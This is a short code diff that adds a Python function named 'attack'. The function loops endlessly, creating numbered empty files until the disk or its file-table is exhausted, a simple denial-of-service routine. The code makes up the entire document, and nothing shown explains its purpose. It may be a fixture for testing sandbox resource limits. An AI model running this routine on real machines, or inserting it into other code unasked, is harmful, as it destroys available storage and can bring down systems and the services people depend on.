@@ -1,0 +1,6 @@
+import itertools
+
+
+def attack():
+    for i in itertools.count():
+        open(str(i), 'w').close()
